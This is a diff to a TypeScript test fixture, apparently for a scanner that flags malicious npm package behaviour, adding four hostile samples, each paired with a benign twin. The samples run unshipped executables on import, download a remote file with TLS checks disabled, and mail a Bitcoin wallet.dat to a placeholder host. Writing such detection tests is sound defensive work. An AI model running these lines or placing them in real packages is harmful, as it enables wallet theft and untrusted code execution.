@@ -219,6 +219,34 @@ const DEEDS: readonly Deed[] = [
     files: { 'deps.bin': '\x7fELF\x02\x01\x01' },
     moments: ['import'],
   },
+  {
+    name: 'a program that is not in the package',
+    check: 'opaque-program',
+    code: `require('child_process').exec('lib.exe')`,
+    twin: `require('child_process').exec('taskkill.exe /im x'); exports.run = () => require('child_process').exec('lib.exe')`,
+    moments: ['import'],
+  },
+  {
+    name: 'a script that is not in the package',
+    check: 'opaque-program',
+    code: `require('child_process').spawn('cmd.exe', ['/c', 'start.bat'])`,
+    twin: `require('child_process').spawn('cmd.exe', ['/c', 'dir'])`,
+    moments: ['import'],
+  },
+  {
+    name: 'a file that is fetched without a look at who sends it',
+    check: 'download-and-execute',
+    code: `process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0
+      require('fs').writeFileSync(require('os').homedir() + '/.cache-x', require('sync-request')('GET', 'https://c.invalid/a').getBody())`,
+    twin: `require('fs').writeFileSync(__dirname + '/words.txt', require('sync-request')('GET', 'https://c.invalid/a').getBody())`,
+  },
+  {
+    name: 'a wallet as the attachment of a mail',
+    check: 'secrets-exfiltration',
+    code: `const file = require('path').join(require('os').homedir(), '.bitcoin/wallet.dat')
+      require('nodemailer').createTransport({ host: 'm.invalid' }).sendMail({ to: 'a@b.invalid', attachments: [{ path: file }] })`,
+    twin: `require('nodemailer').createTransport({ host: 'm.invalid' }).sendMail({ to: 'a@b.invalid', attachments: [{ path: './report.txt' }] })`,
+  },
 ]
 
 const BOTH = ['install', 'import'] as const
